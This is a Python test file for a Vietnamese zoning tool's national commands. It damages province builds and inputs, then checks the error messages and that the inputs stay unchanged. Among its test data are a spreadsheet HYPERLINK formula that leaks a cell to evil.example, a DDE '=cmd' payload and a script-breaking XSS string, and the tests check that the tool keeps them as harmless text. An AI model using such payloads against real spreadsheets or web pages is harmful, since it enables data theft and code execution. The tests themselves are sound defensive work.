"""The hostile battery of the national commands: a national folder damaged or given wrongly, province
lists as people type them, ROOT layer sets an officer or a careless copy would make, sites and
re-runs. Each case runs the command line in process on a copy of the session's national build of
Cao Bằng and Lạng Sơn (tests/conftest.py) and asserts its exit code; for a mistake, a message in
Vietnamese with English beside it that names what to fix; that the folder given is byte-identical
after the run and no output is left behind. The last test prints the tally.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import sqlite3
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

import zoning
from zoning import cli
from zoning.files import temporary_path
from zoning.inputs.crs import tm3_crs
from zoning.inputs.national_folder import manifest_path
from zoning.inputs.reference import find_province
from zoning.outputs.xlsx import formula_like
from zoning.siting.region import regional_study

from .conftest import invoke
from .national_fixtures import WGS84, border_points, outlines, province_folders, reserve_and_river, siting_folders
from .test_maps import browser  # noqa: F401  (the real headless Chromium of the map tests)
from .test_national_map import detail, open_page

pytest.importorskip("distributed")

TALLY: dict[str, list[str]] = {"error": [], "ok": [], "traceback": [], "wrong": []}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
SCRIPT = 'Sông </script><script>window.pwned=1</script> "x" <!--'
REBUILD = ("chạy lại `zoning national build", "run `zoning national build --layers ROOT --out DIR` again")


def digests(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(root.rglob("*")) if p.is_file()}


def flat(text: str) -> str:
    return " ".join(text.split())


# --------------------------------------------------------------------------- the world


@pytest.fixture(scope="module")
def national(national_run) -> Path:
    assert not national_run.failed
    return national_run.out


@pytest.fixture(scope="module")
def sites(tmp_path_factory) -> Path:
    """One site well inside Cao Bằng (WGS 84 CSV)."""
    cao_bang, _ = outlines()
    inside = shapely.point_on_surface(shapely.buffer(cao_bang, -0.1))
    path = tmp_path_factory.mktemp("sites") / "dia-diem.csv"
    path.write_text(f"id,name,lon,lat\ns1,Bãi rác thử,{inside.x!r},{inside.y!r}\n", encoding="utf-8")
    return path


def truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def without_crs(folder: Path) -> None:
    """The reserve saved as a GeoPackage with no CRS (GDAL writes "Undefined Cartesian SRS", as QGIS does)."""
    source = folder / "cao-bang" / "nature_reserves.geojson"
    frame = gpd.read_file(source)
    source.unlink()
    target = folder / "cao-bang" / "nature_reserves.gpkg"
    pyogrio.write_dataframe(frame, target)
    with sqlite3.connect(target) as db:
        db.execute("UPDATE gpkg_geometry_columns SET srs_id = -1")
        db.execute("UPDATE gpkg_contents SET srs_id = -1")


@dataclass
class Case:
    """One command line on a damaged copy of the national folder (``out``) or of ROOT (``root``)."""

    id: str
    args: Callable[[Path, Path, Path, Path], list]  # (out, root, sites, results) → arguments
    damage: Callable[[Path, Path], None] = lambda out, root: None
    expect: str = "error"
    says: tuple[str, ...] = ()  # Vietnamese and English parts of the message
    written: tuple[str, ...] = ()  # files under ``results`` a correct run writes


def check_args(zoning: str = "") -> Callable:
    return lambda out, root, sites, results: ["check", sites, "--zoning", out / zoning if zoning else out, "--out", results / "r.csv"]


def siting_args(provinces: str, where: str = "") -> Callable:
    return lambda out, root, sites, results: ["siting", out / where if where else out, "--provinces", provinces, "--facility",
                                              "sanitary_landfill", "--distance", "sanitary_landfill=1000", "--zones", "other",
                                              "--out", results / "vung.gpkg"]


def build_args(provinces: str = "all") -> Callable:
    return lambda out, root, sites, results: ["national", "build", "--layers", root, "--out", results / "nat", "--provinces", provinces,
                                              "--workers", "1"]


def rename(old: str, new: str) -> Callable:
    return lambda out, root: (root / old).rename(root / new)


LANG_SON = "provinces/lang-son.gpkg"
CASES = [
    Case("gpkg-deleted", check_args(), lambda out, root: (out / LANG_SON).unlink(),
         says=("thiếu lang-son.gpkg", "lang-son.gpkg missing (a province build not finished, or deleted)", *REBUILD)),
    Case("gpkg-truncated", check_args(), lambda out, root: truncate(out / LANG_SON),
         says=("lang-son.gpkg: tệp không phải GeoPackage đọc được", "lang-son.gpkg cannot be read as a GeoPackage", *REBUILD)),
    Case("gpkg-not-geopackage", siting_args("cao-bang,lang-son"), lambda out, root: (out / LANG_SON).write_text("not a GeoPackage"),
         says=("lang-son.gpkg: tệp không phải GeoPackage đọc được", "lang-son.gpkg cannot be read as a GeoPackage", *REBUILD)),
    Case("manifest-missing", check_args(), lambda out, root: manifest_path(out / LANG_SON).unlink(),
         says=("thiếu lang-son.national.json", "lang-son.national.json missing", *REBUILD)),
    Case("every-manifest-missing", check_args(), lambda out, root: [p.unlink() for p in (out / "provinces").glob("*.national.json")],
         says=("cao-bang.national.json, lang-son.national.json", *REBUILD)),
    Case("manifest-corrupt", check_args(), lambda out, root: manifest_path(out / LANG_SON).write_text("{not json"), expect="ok",
         written=("r.csv",)),
    Case("vietnam-gpkg-missing", check_args(), lambda out, root: (out / "vietnam.gpkg").unlink(), expect="ok", written=("r.csv",)),
    Case("mosaic-as-build", check_args("vietnam.gpkg"),
         says=("là bản ghép cả nước, không phải bản phân vùng của một tỉnh", "is the national mosaic, not one province's build", "provinces/<slug>.gpkg")),
    Case("empty-folder", lambda out, root, sites, results: ["check", sites, "--zoning", results / "trong", "--out", results / "r.csv"],
         lambda out, root: None, says=("là một thư mục, không phải tệp phân vùng", "is a folder, not a build file")),
    Case("serve-unfinished", lambda out, root, sites, results: ["serve", out], lambda out, root: manifest_path(out / LANG_SON).unlink(),
         says=("thiếu lang-son.national.json", "lang-son.national.json missing")),
    Case("siting-merged-province", siting_args("cao-bang,Hà Giang"),
         says=("--provinces Hà Giang: tỉnh Hà Giang đã hợp nhất vào Tỉnh Tuyên Quang", "Hà Giang was merged into Tuyen Quang Province",
               "cao-bang (Cao Bằng), lang-son (Lạng Sơn)")),
    Case("siting-all-with-names", siting_args("all,cao-bang"), says=("'all' (mọi tỉnh) cùng với tên tỉnh", "together with province names")),
    Case("build-merged-province", build_args("cao-bang,Hà Giang"),
         says=("--provinces Hà Giang: tỉnh Hà Giang đã hợp nhất", "use --provinces tuyen-quang")),
    Case("build-all-with-names", build_args("all,cao-bang"), says=("'all' (mọi tỉnh) cùng với tên tỉnh", "give all alone")),
    Case("build-unknown-province", build_args("cao-bang,atlantis"), says=("--provinces atlantis: không có tỉnh", "no such province")),
    Case("folder-wrong-slug", build_args(), rename("cao-bang", "cao-bang-cu"),
         says=("cao-bang-cu: tên thư mục không chỉ ra một tỉnh", "cao-bang-cu: the folder's name names no province", "name each province folder")),
    Case("folder-former-province", build_args(), rename("cao-bang", "ha-giang"),
         says=("ha-giang: tên thư mục không chỉ ra một tỉnh", "Hà Giang was merged into Tuyen Quang Province")),
    Case("layer-without-crs", build_args(), lambda out, root: without_crs(root),
         says=("cao-bang/nature_reserves.gpkg: lớp 'nature_reserves' không có hệ tọa độ", "nature_reserves.gpkg: layer 'nature_reserves' has no CRS")),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_national(case: Case, national, national_root, sites, tmp_path):
    out, root, results = tmp_path / "out", tmp_path / "root", tmp_path / "results"
    shutil.copytree(national, out)
    shutil.copytree(national_root, root)
    results.mkdir()
    (results / "trong").mkdir()
    case.damage(out, root)
    before = {"out": digests(out), "root": digests(root), "sites": digests(sites.parent)}
    result = invoke(case.args(out, root, sites, results))
    said = flat(result.output)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        TALLY["traceback"].append(case.id)
        pytest.fail(f"{case.id}: {type(result.exception).__name__}: {result.exception}\n{result.output}")
    assert {"out": digests(out), "root": digests(root), "sites": digests(sites.parent)} == before, "an input was changed"
    left = sorted(str(p.relative_to(results)) for p in results.rglob("*") if p.is_file())
    if case.expect == "error":
        if result.exit_code != 2 or not all(flat(s) in said for s in case.says) or "Traceback" in said:
            TALLY["wrong"].append(case.id)
        assert result.exit_code == 2, said
        assert "Lỗi / Error" in said and "Cách sửa / What to do" in said, said
        for text in case.says:
            assert flat(text) in said, f"{text!r} not in {said}"
        assert left == [], left
        TALLY["error"].append(case.id)
    else:
        if result.exit_code != 0:
            TALLY["wrong"].append(case.id)
        assert result.exit_code == 0, said
        assert left == sorted(case.written), left
        TALLY["ok"].append(case.id)


# ------------------------------------------------------------------- correct answers


@pytest.mark.parametrize("given", [unicodedata.normalize("NFD", "Cao Bằng,Lạng Sơn"), "cao-bang,,lang-son ", "lang-son,cao-bang,04,20",
                                   " all "])
def test_provinces_as_typed_name_the_same_two_provinces(national, given):
    study = regional_study(national, cli.console.split_list(given) or [])
    assert list(study.builds) == ["cao-bang", "lang-son"] and study.names == {"cao-bang": "Cao Bằng", "lang-son": "Lạng Sơn"}
    TALLY["ok"].append(f"provinces-{given!r}")


def test_a_folder_named_with_spaces_and_vietnamese_letters_in_either_form(national, sites, tmp_path):
    for form in ("NFC", "NFD"):
        out = tmp_path / unicodedata.normalize(form, f"kết quả {form} Lạng Sơn")
        shutil.copytree(national, out)
        result = invoke(["check", sites, "--zoning", out, "--out", tmp_path / f"r-{form}.csv"])
        assert result.exit_code == 0, result.output
        rows = pd.read_csv(tmp_path / f"r-{form}.csv", encoding="utf-8-sig")
        assert list(rows["province"]) == ["cao-bang"] and list(rows["site_id"]) == ["s1"]
        TALLY["ok"].append(f"folder-{form}")


def test_site_ids_and_names_with_invisible_characters_and_repeats(national, tmp_path):
    cao_bang, _ = outlines()
    _, east = border_points()
    inside = shapely.point_on_surface(shapely.buffer(cao_bang, -0.1))
    path = tmp_path / "dia-diem.csv"
    path.write_text(f"id,name,lon,lat\n\ufeffs\u200b1,\u200bĐịa\u200b điểm\ufeff,{inside.x!r},{inside.y!r}\n"
                    f"s1,Lặp mã,{east.x + 0.05!r},{east.y - 0.05!r}\n", encoding="utf-8")
    result = invoke(["check", path, "--zoning", national, "--out", tmp_path / "r.csv"])
    assert result.exit_code == 0, result.output
    rows = pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig")
    assert list(rows["site_id"]) == ["s1", "s1-2"] and list(rows["name"]) == ["Địa điểm", "Lặp mã"]
    assert list(rows["province"]) == ["cao-bang", "lang-son"]
    TALLY["ok"].append("sites-invisible-and-repeated")


def test_a_point_on_the_border_line_is_checked_in_both_provinces(national):
    from zoning.national.sitecheck import open_national

    folder = open_national(national)
    cao_bang, lang_son = folder.provinces["cao-bang"].outline, folder.provinces["lang-son"].outline
    coords = shapely.get_coordinates(shapely.intersection(cao_bang.boundary, lang_son.boundary))
    on_line = shapely.Point(coords[len(coords) // 2])
    assert shapely.distance(cao_bang, on_line) < 1e-12 and shapely.distance(lang_son, on_line) < 1e-12  # on both, to rounding
    result = zoning.check(gpd.GeoDataFrame({"id": ["bien"]}, geometry=[on_line], crs="EPSG:4756"), folder)
    rows = result.sites
    assert list(rows["site_id"]) == ["bien@cao-bang", "bien@lang-son"] and set(rows["site_provinces"]) == {"Cao Bằng, Lạng Sơn"}
    assert rows["verdict_combined"].nunique() == 1
    borderline = result.findings[result.findings["finding"] == "borderline"]
    assert sorted(borderline["site_id"]) == ["bien@cao-bang", "bien@lang-son"]  # each side says: verify on the ground
    TALLY["ok"].append("site-on-border-line")


def test_sites_without_coordinates_are_named_rows_and_the_others_checked(national, tmp_path):
    cao_bang, _ = outlines()
    inside = shapely.point_on_surface(shapely.buffer(cao_bang, -0.1))
    path = tmp_path / "dia-diem.csv"
    path.write_text(f"id,name,lon,lat\ns1,A,{inside.x!r},{inside.y!r}\ns2,B,nan,nan\ns3,C,,\n", encoding="utf-8")
    result = invoke(["check", path, "--zoning", national, "--out", tmp_path / "r.csv"])
    assert result.exit_code == 0, result.output
    rows = pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig")
    assert list(rows.loc[rows["verdict"] != "data_error", "site_id"]) == ["s1"]
    assert set(rows.loc[rows["verdict"] == "data_error", "site_id"]) == {"dòng 3 / row 3", "dòng 4 / row 4"}
    TALLY["ok"].append("sites-nan-coordinates")


# ------------------------------------------------------------------- builds of ROOT


def hostile_root(root: Path) -> Path:
    """ROOT with: a reserve id that is a spreadsheet formula and an empty geometry (Cao Bằng, WGS 84); a different reserve under
    the same id in Lạng Sơn, in its TM-3 CRS; a river whose name closes a script element; a home whose name is a formula.
    """
    siting_folders(root)
    reserve, river = reserve_and_river()
    cao_bang, lang_son = outlines()
    far = shapely.point_on_surface(shapely.buffer(lang_son, -0.05))
    reserves = gpd.GeoDataFrame({"id": ["kbt-1", "kbt-trong"], "name": ["Khu bảo tồn giáp ranh", "Trống"], "part": ["core"] * 2,
                                 "category": ["nature_reserve"] * 2}, geometry=[reserve.geometry.iloc[0], shapely.Polygon()], crs=WGS84)
    (root / "cao-bang" / "nature_reserves.geojson").unlink()
    reserves.to_file(root / "cao-bang" / "nature_reserves.geojson")
    other = gpd.GeoDataFrame({"id": ["kbt-1"], "name": ["Khu khác cùng mã"], "part": ["core"], "category": ["nature_reserve"]},
                             geometry=[shapely.box(far.x - 0.01, far.y - 0.01, far.x + 0.01, far.y + 0.01)], crs=WGS84)
    other.to_crs(tm3_crs(find_province("lang-son").central_meridian)).to_file(root / "lang-son" / "nature_reserves.gpkg")
    (root / "lang-son" / "water_supply_sources.geojson").unlink()
    river.assign(id=[FORMULA], name=[SCRIPT]).to_file(root / "lang-son" / "water_supply_sources.geojson")
    homes = gpd.read_file(root / "cao-bang" / "residential_areas.geojson")
    homes.assign(name=["=cmd|' /C calc'!A0", *homes["name"][1:]]).to_file(root / "cao-bang" / "residential_areas.geojson")
    return root


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The hostile ROOT built into a folder whose name has spaces and decomposed Vietnamese letters."""
    base = tmp_path_factory.mktemp("hostile-national")
    root = hostile_root(base / "root")
    out = base / unicodedata.normalize("NFD", "kết quả toàn quốc")
    before = digests(root)
    result = invoke(["national", "build", "--layers", root, "--out", out, "--workers", "1"])
    assert digests(root) == before
    return out, result


def formula_cells(path: Path) -> list[tuple[str, str, str]]:
    """(sheet, cell, text) of every cell a spreadsheet would run: a formula, or a formula-like text not marked as text."""
    return [(sheet.title, cell.coordinate, str(cell.value)) for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str) and formula_like(cell.value) and not cell.quotePrefix)]


def test_hostile_root_builds_with_its_notes(hostile_run):
    out, result = hostile_run
    said = flat(result.output)
    assert result.exit_code == 0, said
    assert ("nature_reserves: one id given to different features in several province folders; read as cao-bang:kbt-1, lang-son:kbt-1"
            in said)
    table = pd.read_excel(out / "consistency.xlsx", sheet_name="Vat ranh gioi - Crossing", header=1)
    reserves = table[table["Lớp / Layer"] == "nature_reserves"]
    # the Lạng Sơn reserve of the same id is not taken for the other side of the one on the border
    assert set(zip(reserves["Mã / Id"], reserves["Tỉnh / Province"])) == {("cao-bang:kbt-1", "cao-bang"), ("cao-bang:kbt-1", "lang-son")}
    TALLY["ok"].append("root-duplicate-ids-mixed-crs-empty-geometry")


def test_formulas_in_ids_and_names_stay_text_in_every_workbook(hostile_run, tmp_path):
    out, _ = hostile_run
    regional = tmp_path / "vung.gpkg"
    done = invoke(["siting", out, "--provinces", "all", "--facility", "sanitary_landfill", "--distance", "sanitary_landfill=300",
                   "--zones", "other", "--out", regional])
    assert done.exit_code == 0, done.output
    texts = []
    for book in (out / "summary.xlsx", out / "consistency.xlsx", regional.with_suffix(".xlsx")):
        assert formula_cells(book) == [], book
        texts += [str(c.value) for s in openpyxl.load_workbook(book) for r in s.iter_rows() for c in r if isinstance(c.value, str)]
    assert FORMULA in texts  # the river's id, shown as it was given, as text
    TALLY["ok"].append("formulas-in-workbooks")


def test_a_name_closing_a_script_breaks_neither_page(hostile_run, browser):  # noqa: F811
    out, _ = hostile_run
    html = (out / "consistency.html").read_text(encoding="utf-8")
    assert "<script>window.pwned" not in html and "Sông &lt;/script&gt;&lt;script&gt;window.pwned=1&lt;/script&gt;" in html
    names = [p["name"] for p in detail(out, "lang-son")["units"]["properties"]]
    assert any(SCRIPT in n for n in names)  # kept whole in the data
    page, errors, requests = open_page(browser, out / "ban-do-toan-quoc.html")
    for slug in ("lang-son", "cao-bang"):
        page.select_option("#national-pick", slug)
        page.wait_for_function(f"zoningNational.shown().includes('{slug}')")
    shown = page.evaluate("""() => { const texts = [];
        zoningNational.map.eachLayer((layer) => { if (layer.getPopup && layer.getPopup()) {
            layer.openPopup(); texts.push(layer.getPopup().getElement().textContent); layer.closePopup(); } });
        return texts; }""")
    assert page.evaluate("() => window.pwned") is None
    assert any(SCRIPT in text for text in shown), "the river's name is shown as text"
    assert errors == [] and requests == []
    page.close()
    TALLY["ok"].append("script-in-names")


def test_a_province_that_fails_leaves_the_others_and_their_map(tmp_path):
    root = province_folders(tmp_path / "root")
    _, east = border_points()
    bow = shapely.Polygon([(east.x + 0.05, east.y + 0.05), (east.x + 0.07, east.y + 0.07), (east.x + 0.07, east.y + 0.05), (east.x + 0.05, east.y + 0.07)])
    reserve, _ = reserve_and_river()
    (root / "cao-bang" / "nature_reserves.geojson").unlink()
    gpd.GeoDataFrame({"id": ["kbt-1", "kbt-no"], "name": ["Khu bảo tồn giáp ranh", "Nơ"], "part": ["core"] * 2, "category": ["nature_reserve"] * 2},
                     geometry=[shapely.box(*shapely.buffer(reserve.geometry.iloc[0], -0.015).bounds), bow], crs=WGS84
                     ).to_file(root / "cao-bang" / "nature_reserves.geojson")
    run = subprocess.run([sys.executable, "-m", "zoning", "national", "build", "--layers", str(root), "--out",
                          str(tmp_path / "out"), "--workers", "1"], capture_output=True, text=True, timeout=600, cwd=Path(__file__).parents[1],
                         env={**os.environ, "COLUMNS": "200"})
    said = flat(run.stdout + run.stderr)
    assert run.returncode == 2, said
    assert "Traceback" not in said and "Compute Failed" not in said, said  # the worker's log of the failed task is not shown to the officer
    assert "cao-bang/nature_reserves.geojson (nature_reserves): feature kbt-no has an invalid geometry" in said  # the file, not "<GeoDataFrame>"
    assert sorted(p.name for p in (tmp_path / "out" / "ban-do-toan-quoc").iterdir()) == ["lang-son.js"]
    assert [p["name"] for p in detail(tmp_path / "out", "lang-son")["communes"]["properties"]][:1] == ["Xã thử 0"]
    TALLY["error"].append("province-failed-invalid-geometry")


def test_a_killed_run_is_finished_by_the_next(national, national_root, sites, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(national, out)
    build = out / LANG_SON
    manifest_path(build).unlink()
    truncate(build)
    dead = 2**22 + 12345  # no such process
    assert not Path(f"/proc/{dead}").exists()
    stale = temporary_path(build, pid=dead)
    stale.write_bytes(b"half a GeoPackage")
    result = invoke(["national", "build", "--layers", national_root, "--out", out, "--workers", "1"])
    said = flat(result.output)
    assert result.exit_code == 0, said
    assert "xây dựng / built 1, giữ nguyên / kept 1, lỗi / failed 0" in said
    assert not stale.exists() and not [p for p in (out / "provinces").iterdir() if p.name.startswith(".")]
    checked = invoke(["check", sites, "--zoning", out, "--out", tmp_path / "r.csv"])
    assert checked.exit_code == 0, checked.output
    assert pyogrio.read_dataframe(build, layer="zones", read_geometry=False)["area_ha"].sum() > 0
    TALLY["ok"].append("killed-run")


def test_tally():
    """The figures of this battery (printed with ``pytest -s``)."""
    tried = sum(len(v) for v in TALLY.values())
    line = (f"tried {tried}, clear errors {len(TALLY['error'])}, correct results {len(TALLY['ok'])}, "
            f"tracebacks {len(TALLY['traceback'])}, wrong {len(TALLY['wrong'])}")
    print("\n" + line)
    if not TALLY["error"] and not TALLY["ok"]:
        pytest.skip("the battery was not run in this session")
    assert not TALLY["traceback"] and not TALLY["wrong"], line

